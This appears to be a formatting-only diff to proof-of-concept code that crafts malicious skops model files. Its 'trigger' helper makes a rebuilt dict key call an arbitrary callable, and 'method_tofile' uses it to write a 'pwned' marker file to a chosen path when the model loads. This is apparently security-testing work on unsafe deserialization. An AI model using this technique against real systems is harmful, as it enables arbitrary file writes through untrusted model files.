@@ -80,7 +80,12 @@ def trigger(callable_node: Node, argument: str, ids: Ids) -> Node:
     """A dict whose one key skops rebuilds as ``key_type(argument)``: calls ``callable_node``."""
     key_types = node("ListNode", "builtins", "list", ids, content=[callable_node])
     return node(
-        "DictNode", "builtins", "dict", ids, content={argument: json_node(0, ids)}, key_types=key_types
+        "DictNode",
+        "builtins",
+        "dict",
+        ids,
+        content={argument: json_node(0, ids)},
+        key_types=key_types,
     )
 
 
@@ -114,9 +119,7 @@ def method_tofile(model: bytes, marker: Path) -> bytes:
     """A 2 KB file: a dict key rebuilt by ``ndarray.tofile`` writes the file's bytes to a path."""
     ids = Ids()
     array = node("NdArrayNode", "numpy", "ndarray", ids, type="numpy", file="900.npy", shape=[5])
-    method = node(
-        "MethodNode", "numpy", "ndarray", ids, content={"func": "tofile", "obj": array}
-    )
+    method = node("MethodNode", "numpy", "ndarray", ids, content={"func": "tofile", "obj": array})
     attrs = trigger(method, str(marker), ids)
     root = node("ObjectNode", "sklearn.pipeline", "Pipeline", ids, content=attrs)
     return standalone(root, {"900.npy": npy(np.frombuffer(b"pwned", dtype=np.uint8))})
